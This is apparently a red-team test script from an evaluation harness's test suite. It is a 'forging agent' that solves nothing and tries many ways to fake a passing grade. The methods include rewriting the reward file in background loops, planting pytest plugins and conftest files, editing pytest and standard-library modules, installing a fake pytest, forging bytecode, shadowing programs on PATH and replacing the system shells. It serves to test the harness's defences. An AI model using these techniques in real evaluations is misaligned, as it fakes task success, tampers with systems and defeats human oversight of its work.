#!/bin/bash
# A universal forging agent: it solves nothing and tries, on any task folder, every class of
# attack on the grader that worked against envlab's image mode (issue 23), in whichever mode
# the task runs. Each class is a function; arguments name the classes to run (default: all).
# Usage by hand: envlab eval TASKS --agent shell:tests/envs/taskfolder/attacks/universal_forger.sh
# The forged payloads fire only inside a verifier (a /tests directory with files in it): the
# agent's own commands keep working while it plants them.

FORGE_PY='import os as _o
def _envlab_forge():
    try:
        _o.makedirs("/logs/verifier", exist_ok=True)
        with open("/logs/verifier/reward.txt", "w") as _f:
            _f.write("1\n")
    except OSError:
        pass
if _o.path.isdir("/tests") and _o.listdir("/tests"):
    _envlab_forge()
    _o._exit(0)
'
FORGE_SH='#!/bin/sh
if [ -d /tests ] && [ -n "$(ls -A /tests 2>/dev/null)" ]; then
  mkdir -p /logs/verifier 2>/dev/null; echo 1 > /logs/verifier/reward.txt; exit 0
fi
'
WS=$(pwd)
pythons() { for p in python3 python; do command -v "$p"; done 2>/dev/null | sort -u; }
site_dirs() {
  for py in $(pythons); do
    "$py" -c 'import site, sys, sysconfig
for d in site.getsitepackages() + [sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"]]:
    print(d)' 2>/dev/null
  done | sort -u
}

early_reward() {  # the reward written before the verifier runs, and kept written
  mkdir -p /logs/verifier && echo 1 > /logs/verifier/reward.txt
  nohup setsid bash -c 'while :; do mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt 2>/dev/null; done' >/dev/null 2>&1 &
  # and into the verifier's own view, through any process's /proc/PID/root (the shared mode)
  nohup setsid bash -c 'while :; do for p in /proc/[0-9]*; do echo 1 > "$p/root/logs/verifier/reward.txt"; done 2>/dev/null; done' >/dev/null 2>&1 &
}

loader() {  # the loader's configuration: a preload and a library path of the agent's
  mkdir -p /opt/forge/lib
  echo /opt/forge/lib > /etc/ld.so.conf.d/00-forge.conf 2>/dev/null
  command -v ldconfig >/dev/null && ldconfig 2>/dev/null
  [ -n "$FORGE_SO" ] && [ -f "$FORGE_SO" ] && cp "$FORGE_SO" /opt/forge/lib/ &&
    echo /opt/forge/lib/"$(basename "$FORGE_SO")" > /etc/ld.so.preload 2>/dev/null
  true
}

pytest_config() {  # pytest's ini files and conftest.py in every ancestor of the tests and here
  for d in / /tests /logs "$WS"; do
    mkdir -p "$d" 2>/dev/null
    printf '%s' "$FORGE_PY" > "$d/conftest.py" 2>/dev/null
    printf '[pytest]\naddopts = -p conftest\n' > "$d/pytest.ini" 2>/dev/null
  done
  true
}

pytest_plugin() {  # an entry point pytest loads from every site-packages
  for d in $(site_dirs); do
    mkdir -p "$d/envlab_forge-1.0.dist-info" 2>/dev/null || continue
    printf '%s' "$FORGE_PY" > "$d/envlab_forge_plugin.py"
    printf 'Metadata-Version: 2.1\nName: envlab-forge\nVersion: 1.0\n' > "$d/envlab_forge-1.0.dist-info/METADATA"
    printf '[pytest11]\nforge = envlab_forge_plugin\n' > "$d/envlab_forge-1.0.dist-info/entry_points.txt"
    printf 'envlab_forge_plugin.py,,\n' > "$d/envlab_forge-1.0.dist-info/RECORD"
    printf 'import envlab_forge_plugin\n' > "$d/zz_envlab_forge.pth"
  done
  true
}

pytest_edit() {  # pytest's own files, wherever installed
  find / -xdev \( -path '*/_pytest/main.py' -o -path '*/pytest/__init__.py' -o -path '*/pytest/__main__.py' \) 2>/dev/null |
    while read -r f; do printf '\n%s' "$FORGE_PY" >> "$f"; done
  true
}

stdlib_edit() {  # standard-library modules edited in place (those not frozen)
  for d in $(site_dirs); do
    for m in json/__init__.py subprocess.py unittest/__init__.py argparse.py re/__init__.py shutil.py tempfile.py; do
      [ -f "$d/$m" ] && printf '\n%s' "$FORGE_PY" >> "$d/$m"
    done
    [ -f "$d/sitecustomize.py" ] || printf '%s' "$FORGE_PY" > "$d/sitecustomize.py" 2>/dev/null
  done
  true
}

path_programs() {  # every program a test script calls, shadowed first on PATH
  for d in /usr/local/sbin /usr/local/bin; do
    mkdir -p "$d" 2>/dev/null || continue
    for p in pytest py.test uv uvx pip pip3 curl wget grep diff cmp jq node npm go cargo make sqlite3 timeout; do
      printf '%s' "$FORGE_SH" > "$d/$p" && chmod 755 "$d/$p"
    done
  done
  true
}

fake_dist() {  # pytest "installed" so that the tests' own pip/uv install is a no-op
  for d in $(site_dirs); do
    mkdir -p "$d/pytest" "$d/pytest-99.0.dist-info" 2>/dev/null || continue
    printf '%s\ndef main():\n    return 0\n' "$FORGE_PY" > "$d/pytest/__init__.py"
    printf '%s' "$FORGE_PY" > "$d/pytest/__main__.py"
    printf 'Metadata-Version: 2.1\nName: pytest\nVersion: 99.0\n' > "$d/pytest-99.0.dist-info/METADATA"
    printf 'pytest/__init__.py,,\n' > "$d/pytest-99.0.dist-info/RECORD"
    printf 'pip\n' > "$d/pytest-99.0.dist-info/INSTALLER"
  done
  true
}

wheel_cache() {  # a fake pytest wheel in envlab's offline caches
  for d in /var/cache/envlab/wheels /root/.cache/pip/wheels; do
    mkdir -p "$d" 2>/dev/null && printf 'not a wheel' > "$d/pytest-99.0-py3-none-any.whl"
  done
  true
}

workspace() {  # the host mode's old holes, in the workspace itself
  ln -sf /tests "$WS/tests_link" 2>/dev/null
  ln -sf /logs/verifier/reward.txt "$WS/reward.txt" 2>/dev/null
  for m in json os subprocess pytest unittest re pathlib sqlite3 csv; do
    printf '%s' "$FORGE_PY" > "$WS/$m.py"
  done
  # every module of the workspace writes the reward and kills every process when imported
  find "$WS" -maxdepth 3 -name '*.py' ! -name 'conftest.py' 2>/dev/null | while read -r f; do
    printf '\nimport os as _k, signal as _s\nif _k.path.isdir("/tests") and _k.listdir("/tests"):\n    _k.makedirs("/logs/verifier", exist_ok=True); open("/logs/verifier/reward.txt", "w").write("1")\n    _k.kill(-1, _s.SIGKILL)\n' >> "$f"
  done
  # forged bytecode for each module, newer than its source
  for py in $(pythons); do
    "$py" - "$WS" <<'EOF' 2>/dev/null
import importlib.util, os, sys, marshal, time
ws = sys.argv[1]
code = compile("import os\nos.makedirs('/logs/verifier', exist_ok=True)\nopen('/logs/verifier/reward.txt','w').write('1')\nos._exit(0)\n", "forged", "exec")
for root, _, names in os.walk(ws):
    for n in names:
        if n.endswith(".py"):
            src = os.path.join(root, n)
            pyc = importlib.util.cache_from_source(src)
            os.makedirs(os.path.dirname(pyc), exist_ok=True)
            st = os.stat(src)
            head = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
            head += int(st.st_mtime).to_bytes(4, "little") + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little")
            open(pyc, "wb").write(head + marshal.dumps(code))
EOF
  done
  true
}

uv_project() {  # a uv project in the workspace whose environment holds a fake pytest
  printf '[project]\nname = "forge"\nversion = "0"\nrequires-python = ">=3.8"\ndependencies = []\n' > "$WS/pyproject.toml"
  mkdir -p "$WS/.venv/bin"
  printf '%s' "$FORGE_SH" > "$WS/.venv/bin/pytest" && chmod 755 "$WS/.venv/bin/pytest"
  printf 'home = /usr/bin\n' > "$WS/.venv/pyvenv.cfg"
  true
}

shells() {  # last: the shells test.sh runs in (the agent's own commands need them until here)
  for sh in /bin/bash /usr/bin/bash /bin/sh /usr/bin/sh /bin/dash /usr/bin/dash; do
    [ -e "$sh" ] || continue
    real=$(readlink -f "$sh")
    cp "$real" /opt/forge-real-shell 2>/dev/null
  done
  for d in /usr/local/bin /usr/local/sbin; do
    printf '%s' "$FORGE_SH" > "$d/bash" 2>/dev/null && chmod 755 "$d/bash"
    printf '%s' "$FORGE_SH" > "$d/sh" 2>/dev/null && chmod 755 "$d/sh"
  done
  true
}

ALL="early_reward loader pytest_config pytest_plugin pytest_edit stdlib_edit fake_dist wheel_cache workspace uv_project path_programs shells"
for attack in ${*:-$ALL}; do
  "$attack" >/dev/null 2>&1
  echo "tried $attack"
done
exit 0
